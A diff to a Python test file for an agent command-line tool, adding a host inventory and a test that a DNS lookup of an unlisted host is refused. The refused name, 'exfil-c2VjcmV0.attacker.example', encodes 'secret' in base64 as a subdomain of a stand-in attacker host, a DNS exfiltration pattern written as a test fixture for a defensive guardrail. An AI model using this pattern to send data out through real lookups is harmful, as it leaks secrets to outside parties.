@@ -14,7 +14,8 @@ from agent.cli.main import app
 def _setup(tmp_path: Path, fake_bin) -> list[str]:
     bindir, _ = fake_bin
     cfg = {"teams": {"payments": {"approvers": ["U1"]}},
-           "tools": {"bin_path": f"{bindir}:/usr/bin:/bin"}}
+           "tools": {"bin_path": f"{bindir}:/usr/bin:/bin"},
+           "targets": {"services": {"local": {"hosts": ["localhost"]}}}}
     path = tmp_path / "config.yaml"
     path.write_text(yaml.safe_dump(cfg))
     return ["--home", str(tmp_path / "home"), "--config", str(path)]
@@ -63,4 +64,7 @@ def test_bad_json_and_refusals_have_exit_codes(tmp_path: Path, fake_bin) -> None
     refused = r.invoke(app, [*g, "tools", "run", "shell", "--args", '{"cmd": "id"}'])
     assert refused.exit_code == 3 and "not a registered tool" in refused.output
     ok = r.invoke(app, [*g, "tools", "run", "dns_lookup", "--args", '{"name": "localhost"}'])
-    assert ok.exit_code == 0 and "127.0.0.1" in ok.output
+    assert ok.exit_code == 0 and "127.0.0.1" in ok.output  # listed in the targets inventory
+    unlisted = r.invoke(app, [*g, "tools", "run", "dns_lookup", "--args",
+                              '{"name": "exfil-c2VjcmV0.attacker.example"}'])
+    assert unlisted.exit_code == 3 and "not a listed host" in unlisted.output
